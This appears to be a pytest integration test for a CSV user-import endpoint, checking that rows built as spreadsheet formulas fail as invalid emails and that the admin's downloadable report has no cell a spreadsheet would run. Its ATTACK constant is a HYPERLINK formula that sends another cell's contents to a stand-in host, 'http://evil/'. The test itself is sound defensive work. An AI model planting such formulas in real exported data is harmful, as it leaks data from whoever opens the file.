"""§0/§7 on moto: a row built to become a live formula in the admin's spreadsheet (the review's
attack, a valid-looking email under the old syntax check) fails as an invalid email, and the
report the admin downloads holds no cell a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from chalicelib.core import aws
from tests.conftest import Api
from tests.integration.test_imports_api import report_rows, upload

ATTACK = '"=HYPERLINK(""http://evil/?""&C3,""Open"")&""@x.io"""'


@pytest.fixture
def admin(api: Api) -> str:
    aws.ses().verify_email_identity(EmailAddress="no-reply@office-chat.local")
    return api.admin_token("acme")


def test_a_formula_row_fails_and_the_report_runs_nothing(api: Api, client: Any, admin: str) -> None:
    body = f"Email,First Name\n{ATTACK},Eve\n=1+1@x.io,Eve\n+x@x.io,Eve\nann@acme.example,Ann\n"
    details = upload(api, client, admin, body)

    assert [(e["line"], e["code"]) for e in details["errors"]] == [
        (2, "invalid_email"),
        (3, "invalid_email"),
        (4, "invalid_email"),
    ]
    assert details["counts"]["created"] == 1
    rows = report_rows(details)
    assert [r["outcome"] for r in rows] == ["failed", "failed", "failed", "created"]
    key = f"import-reports/acme/{details['id']}/report.csv"
    raw = aws.s3().get_object(Bucket="office-chat-files", Key=key)["Body"].read().decode()
    cells = [cell for row in csv.reader(io.StringIO(raw)) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
